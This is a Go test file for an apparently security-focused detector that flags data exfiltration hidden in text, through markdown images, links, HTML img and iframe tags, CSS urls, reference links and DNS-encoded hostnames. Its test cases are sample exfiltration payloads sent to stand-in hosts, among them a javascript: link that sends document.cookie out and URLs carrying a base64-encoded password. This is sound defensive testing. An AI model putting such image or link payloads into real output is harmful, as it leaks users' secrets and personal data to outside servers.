package exfil

import (
	"context"
	"errors"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/rampartsec/rampart/detect"
	"github.com/rampartsec/rampart/detect/detecttest"
	"github.com/rampartsec/rampart/finding"
)

func newDetector(t testing.TB, opts map[string]any) *Detector {
	t.Helper()
	d, err := New(opts)
	if err != nil {
		t.Fatalf("New(%v): %v", opts, err)
	}
	return d
}

const (
	b64  = "U2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIHRoZSB1c2VyIGlz"
	hexd = "6a6f686e2e736d69746840636f6e746f736f2e636f6d"
)

func TestPositives(t *testing.T) {
	long := strings.Repeat("A", maxURL+10)
	for _, tc := range []struct {
		name, text string
		rule       *finding.Rule
		span       string // the hit's text, when checked
		opts       map[string]any
	}{
		{"image base64 query", "Done. ![loading](https://a.example/l.png?d=" + b64 + ") ok", RuleMarkdownImage, "![loading](https://a.example/l.png?d=" + b64 + ")", nil},
		{"image hex path", "![](https://a.example/c/" + hexd + "/p.gif)", RuleMarkdownImage, "", nil},
		{"image text query", "![x](https://a.example/i?q=alice+smith+lives+at+12+oak+street+and+her+phone+is+555)", RuleMarkdownImage, "", nil},
		{"image email", "![x](https://a.example/i?u=alice.smith%40contoso.com)", RuleMarkdownImage, "", nil},
		{"image angle title newline", "![a\nb](\n <https://a.example/i?d=" + b64 + "> \"t\"\n)", RuleMarkdownImage, "", nil},
		{"image nested brackets", "![a [b] c](https://a.example/i?d=" + b64 + ")", RuleMarkdownImage, "![a [b] c](https://a.example/i?d=" + b64 + ")", nil},
		{"image parens in url", "![a](https://a.example/i_(x)?d=" + b64 + ")", RuleMarkdownImage, "", nil},
		{"link base64", "[click](https://a.example/v?s=" + b64 + ")", RuleLink, "", nil},
		{"link javascript", "[x](javascript:fetch('//e.example?c='+document.cookie))", RuleLink, "", nil},
		{"link fragment", "[x](https://a.example/#" + b64 + hexd + ")", RuleLink, "", nil},
		{"escaped bang", `\![x](https://a.example/l.png?d=` + b64 + `)`, RuleLink, "", nil},
		{"autolink", "see <https://a.example/v?s=" + b64 + ">", RuleLink, "<https://a.example/v?s=" + b64 + ">", nil},
		{"mailto body", "[mail](mailto:x@a.example?body=the+user+alice+smith+has+card+4111+and+password+hunter2+and+lives+at+12+oak+street)", RuleLink, "", nil},
		{"html img", `<img alt="x" src="https://a.example/p.gif?d=` + b64 + `" width=1>`, RuleHTMLImg, "", nil},
		{"html img unquoted", `<IMG SRC=https://a.example/p.gif?d=` + b64 + `>`, RuleHTMLImg, "", nil},
		{"html iframe", `<iframe src='https://a.example/?d=` + b64 + `'></iframe>`, RuleHTMLImg, "", nil},
		{"html srcset", `<img srcset="/a.png 1x, https://a.example/p.gif?d=` + b64 + ` 2x">`, RuleHTMLImg, "", nil},
		{"css url", `<div style="background:url('https://a.example/p.gif?d=` + b64 + `')">x</div>`, RuleHTMLImg, "", nil},
		{"html a", `<a href="https://a.example/?d=` + b64 + `">x</a>`, RuleLink, "", nil},
		{"reference image", "![chart][c]\n\n[c]: https://a.example/p.png?d=" + hexd[:24] + "\n", RuleReference, "[c]: https://a.example/p.png?d=" + hexd[:24], nil},
		{"reference link", "[c]: https://a.example/p?d=" + b64 + " \"T\"\n", RuleReference, "", nil},
		{"reference shortcut image", "![C]\n\n[c]: https://a.example/p.png?d=" + hexd[:24] + "\n", RuleReference, "", nil},
		{"reference collapsed image", "![c][]\n[c]: <https://a.example/p.png?d=" + hexd[:24] + ">\n", RuleReference, "", nil},
		{"dns hex", "![x](https://" + hexd + ".a.example/p.png)", RuleDNS, "", nil},
		{"dns labels", "![x](https://nbswy3dp.ebxxe4tm.mqqho2lunaqe.a.example/p.png)", RuleDNS, "", nil},
		{"ip host", "![x](http://203.0.113.9/p.png?u=alice)", RuleMarkdownImage, "", nil},
		{"userinfo", "![x](https://" + b64 + "@a.example/p.png)", RuleMarkdownImage, "", nil},
		{"protocol relative", "![x](//a.example/p.png?d=" + b64 + ")", RuleMarkdownImage, "", nil},
		{"overlong image", "![x](https://a.example/?d=" + long + ")", RuleOverlong, "", nil},
		{"overlong autolink", "<https://a.example/?d=" + long + ">", RuleOverlong, "", nil},
		{"unlisted image", "![x](https://cdn.other.example/logo.png)", RuleMarkdownImage, "", map[string]any{"allow_domains": []any{"docs.example"}}},
		{"unlisted html", `<img src="https://cdn.other.example/logo.png">`, RuleHTMLImg, "", map[string]any{"allow_domains": []any{"docs.example"}}},
		{"bare url", "go to https://a.example/v?s=" + b64 + ". Thanks", RuleLink, "https://a.example/v?s=" + b64, map[string]any{"bare_urls": true}},
		{"long query", "![x](https://a.example/i?" + strings.Repeat("k=v&", 30) + "z=1)", RuleMarkdownImage, "", map[string]any{"max_query_bytes": 16}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := newDetector(t, tc.opts)
			hits := detecttest.Detect(t, d, tc.text)
			if len(hits) == 0 {
				t.Fatalf("no hit in %q", tc.text)
			}
			best := hits[0]
			for _, h := range hits {
				if h.Score > best.Score {
					best = h
				}
			}
			if best.Rule != tc.rule {
				t.Errorf("rule %s, want %s", best.Rule.ID, tc.rule.ID)
			}
			if best.Score < d.Threshold() {
				t.Errorf("score %.3f below the threshold", best.Score)
			}
			if tc.span != "" && tc.text[best.Start:best.End] != tc.span {
				t.Errorf("span %q, want %q", tc.text[best.Start:best.End], tc.span)
			}
		})
	}
}

func TestNegatives(t *testing.T) {
	for _, tc := range []struct {
		name, text string
		opts       map[string]any
	}{
		{"prose", "Plain prose: no links [here] or <there>, a < b and c > d.", nil},
		{"doc link", "See [the docs](https://docs.python.org/3/library/json.html#json.dumps).", nil},
		{"badge", "![build](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)", nil},
		{"badge in link", "[![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/o/r/actions)", nil},
		{"relative", "![diagram](./docs/images/arch.png) and [guide](../guide/README.md#install)", nil},
		{"github blob", "[code](https://github.com/golang/go/blob/3f5a1c9e0b7d2a4c6e8f1a3b5c7d9e0f1a2b3c4d/src/net/http/server.go#L10-L20)", nil},
		{"search", "[search](https://www.google.com/search?q=how+to+install+python)", nil},
		{"youtube", "[talk](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)", nil},
		{"s3 presigned", "![r](https://b.s3.amazonaws.com/r.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20130524%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20130524T000000Z&X-Amz-Expires=86400&X-Amz-SignedHeaders=host&X-Amz-Signature=aeeed9bbccd4d02ee5c0109b86d86835f995330da4c265957d157751f604d404)", nil},
		{"gravatar", "![a](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200)", nil},
		{"uuid", "[p](https://app.example.com/projects/3f2b6c1e-8a4d-4e2b-9f1a-7c3d5e6f8a9b/settings)", nil},
		{"reference doc", "[d]: https://docs.rs/serde/latest/serde/\n", nil},
		{"escaped", `\[y](https://a.example/?d=` + b64 + `) is not a link`, nil},
		{"private ip", "![x](http://127.0.0.1:8000/static/logo.png?v=2) ![y](http://192.168.1.10/a.png)", nil},
		{"unterminated image", "![x](https://a.example/l.png?d=" + b64 + " and then prose", nil},
		{"space before paren", "[x] (https://a.example/l.png?d=" + b64 + ")", nil},
		{"blank line", "[x\n\ny](https://a.example/l.png?d=" + b64 + ")", nil},
		{"allowed", "![x](https://cdn.Docs.Example./l.png?d=" + b64 + ")", map[string]any{"allow_domains": []any{"docs.example"}}},
		{"allowed idn", "![x](https://xn--bcher-kva.example/l.png?d=" + b64 + ")", map[string]any{"allow_domains": "bücher.example"}},
		{"allowed idn reverse", "![x](https://BÜCHER.example/l.png?d=" + b64 + ")", map[string]any{"allow_domains": "xn--bcher-kva.example"}},
		{"unlisted link", "[x](https://other.example/page)", map[string]any{"allow_domains": []any{"docs.example"}}},
		{"unlisted off", "![x](https://other.example/logo.png)", map[string]any{"allow_domains": []any{"docs.example"}, "block_unlisted": false}},
		{"links off", "[x](https://a.example/v?s=" + b64 + ")", map[string]any{"links": false}},
		{"bare off", "go to https://a.example/v?s=" + b64 + " now", nil},
		{"lone brackets", "]]]]((((<<<<::::", nil},
		{"tel", "[call](tel:+1-555-0100)", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := newDetector(t, tc.opts)
			for _, h := range detecttest.Detect(t, d, tc.text) {
				if h.Score >= d.Threshold() {
					t.Errorf("hit %s %.3f on %q", h.Rule.ID, h.Score, tc.text[h.Start:h.End])
				}
			}
		})
	}
}

func TestReferenceUsedAsImage(t *testing.T) {
	d := newDetector(t, nil)
	def := "[c]: https://a.example/p.png?d=" + hexd[:24] + "\n"
	img := detecttest.Detect(t, d, "![x][c]\n"+def)
	lnk := detecttest.Detect(t, d, "[x][c]\n"+def)
	after := detecttest.Detect(t, d, def+"![x][c]\n")
	if len(img) != 1 || len(lnk) != 1 || len(after) != 1 || img[0].Score <= lnk[0].Score || after[0].Score != lnk[0].Score {
		t.Fatalf("used by an image %+v, by a link %+v, before its use %+v", img, lnk, after)
	}
}

func TestImageScoresAboveLink(t *testing.T) {
	d := newDetector(t, nil)
	u := "https://a.example/p?d=" + b64[:28]
	img := detecttest.Detect(t, d, "![x]("+u+")")
	lnk := detecttest.Detect(t, d, "[x]("+u+")")
	if len(img) != 1 || len(lnk) != 1 || img[0].Score <= lnk[0].Score {
		t.Fatalf("image %+v link %+v: want one hit each, the image's higher", img, lnk)
	}
}

func TestReplacement(t *testing.T) {
	d := newDetector(t, nil)
	for _, tc := range []struct{ text, want string }{
		{"A ![the alt](https://a.example/l.png?d=" + b64 + ") B", "A the alt B"},
		{"A [click *here*](https://a.example/v?s=" + b64 + ") B", "A click *here* B"},
		{"[![inner](https://a.example/i.png?d=" + b64 + ")](https://a.example/v?s=" + b64 + ")", "inner"},
		{`<img src="https://a.example/p.gif?d=` + b64 + `" alt="a &amp; b"> after`, "a & b after"},
		{`<iframe src="https://a.example/p?d=` + b64 + `"></iframe>`, "</iframe>"},
		{"<https://a.example/v?s=" + b64 + "> after", " after"},
		{"[r]: https://a.example/p?d=" + b64 + "\nnext", "\nnext"},
	} {
		hits := detecttest.Detect(t, d, tc.text)
		if len(hits) == 0 {
			t.Fatalf("no hit in %q", tc.text)
		}
		h := hits[0]
		got := tc.text[:h.Start] + d.Replacement(tc.text, h) + tc.text[h.End:]
		if got != tc.want {
			t.Errorf("%q: got %q, want %q", tc.text, got, tc.want)
		}
	}
	if got := Replacement("short", detect.Hit{Start: 2, End: 99}); got != "" {
		t.Errorf("out-of-range span gave %q", got)
	}
}

func TestOptions(t *testing.T) {
	for _, opts := range []map[string]any{
		{"nope": 1},
		{"allow_domains": 3},
		{"allow_domains": []any{""}},
		{"allow_domains": []any{"a..b"}},
		{"threshold": 0.0},
		{"threshold": 1.5},
		{"threshold": "high"},
		{"max_query_bytes": 0},
		{"links": "yes"},
		{"bare_urls": 1},
		{"block_unlisted": "no"},
	} {
		if _, err := New(opts); err == nil {
			t.Errorf("New(%v) accepted", opts)
		}
	}
	d := newDetector(t, map[string]any{"threshold": 0.7, "allow_domains": []string{"*.Example.COM."}})
	if d.Threshold() != 0.7 || len(d.allow) != 1 || d.allow[0] != "example.com" {
		t.Fatalf("threshold %v allow %v", d.Threshold(), d.allow)
	}
}

func TestRegistered(t *testing.T) {
	d, err := detect.Default.New(Type, map[string]any{"links": false})
	if err != nil {
		t.Fatal(err)
	}
	if d.Name() != Type {
		t.Fatalf("name %q", d.Name())
	}
	if _, ok := d.(interface{ Threshold() float64 }); !ok {
		t.Fatal("no Threshold method")
	}
}

func TestRuleMetadata(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if !strings.HasPrefix(r.ID, Type+".") || seen[r.ID] || r.Title == "" || r.Remediation == "" || len(r.References.OWASP) == 0 {
			t.Errorf("rule %+v", r)
		}
		seen[r.ID] = true
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := newDetector(t, nil).Detect(ctx, detect.Input{Text: "x"}); !errors.Is(err, context.Canceled) {
		t.Fatalf("err %v", err)
	}
}

func TestHold(t *testing.T) {
	d := newDetector(t, map[string]any{"bare_urls": true})
	for _, tc := range []struct {
		text string
		want int
	}{
		{"plain text", 6}, // "text" may become "text://…"
		{"text ![al", 5},
		{"text ![alt]", 5},
		{"text ![alt](https://a.example/?d=" + b64, 5},
		{"text !", 5},
		{"text <img src=", 5},
		{"a\n[r]: https://a.example/?d=" + b64, 2},
		{"see https://a.exam", 4},
		{"[done](https://a.example/) more.", 32},
	} {
		if got := d.Hold(tc.text); got != tc.want {
			t.Errorf("Hold(%q) = %d, want %d", tc.text, got, tc.want)
		}
	}
}

var fragments = []string{
	"the", " ", "\n", "\n\n", "!", "[", "]", "(", ")", "<", ">", "\\", "\"", "'", ":", "://", "![alt](", "[text](",
	"](", "]: ", "<img src=\"", "<a href=", "<iframe src='", " srcset=\"", " style=\"background:url(", "<https://",
	"https://", "http://203.0.113.9", "//", "a.example", hexd, ".evil.example/p.png", "?d=", b64, "&x=", "#",
	"%20", "+", "@", "mailto:x@a.example?body=", "javascript:", "data:image/png;base64,", " \"title\"", "é", "🎉",
}

func randomText(r *rand.Rand) string {
	var b strings.Builder
	for n := 3 + r.IntN(40); n > 0; n-- {
		b.WriteString(fragments[r.IntN(len(fragments))])
	}
	return b.String()
}

// TestContract checks the streaming contract on the positive cases and on
// random texts made of construct pieces, cut at every byte.
func TestContract(t *testing.T) {
	d := newDetector(t, map[string]any{"bare_urls": true})
	texts := []string{
		"x ![a](https://a.example/l.png?d=" + b64 + ") y [b](https://a.example/?d=" + b64 + ")",
		"![c][r]\n\n[r]: https://a.example/p.png?d=" + hexd + "\nmore",
		`<img src="https://a.example/p.gif?d=` + b64 + `"> and https://a.example/?q=` + b64,
	}
	r := rand.New(rand.NewPCG(1, 2))
	n := 300
	if testing.Short() {
		n = 50
	}
	for range n {
		texts = append(texts, randomText(r))
	}
	for _, text := range texts {
		detecttest.Contract(t, d, text, detecttest.Cuts(text))
	}
	// A long text: constructs far apart and an overlong URL.
	long := strings.Repeat("prose ", 2000) + "![x](https://a.example/?d=" + strings.Repeat("Ab1", maxURL) + ")" + strings.Repeat(" tail", 500)
	detecttest.Contract(t, d, long, detecttest.Cuts(long))
}

func TestNoAllocs(t *testing.T) {
	d := newDetector(t, nil)
	text := cleanText(4 << 10)
	in := detect.Input{Text: text}
	ctx := context.Background()
	if n := testing.AllocsPerRun(100, func() { _, _ = d.Detect(ctx, in) }); n != 0 {
		t.Fatalf("%v allocations per Detect on clean text", n)
	}
	linked := "See [the docs](https://docs.python.org/3/library/json.html) and ![b](https://img.shields.io/badge/x-y-green?style=flat). " + text
	in = detect.Input{Text: linked}
	if n := testing.AllocsPerRun(100, func() { _, _ = d.Detect(ctx, in) }); n != 0 {
		t.Fatalf("%v allocations per Detect on benign links", n)
	}
}

func cleanText(n int) string {
	words := []string{"the", "model", "answers", "with", "a", "summary", "of", "results,", "and", "then", "lists", "three", "steps:", "first", "install", "it.", "Next", "(optional)", "configure", "logging;", "finally", "run", "tests", "—", "done."}
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		b.WriteString(words[(i*7+i/5)%len(words)])
		if i%17 == 16 {
			b.WriteString("\n\n")
		} else {
			b.WriteByte(' ')
		}
	}
	return b.String()[:n]
}
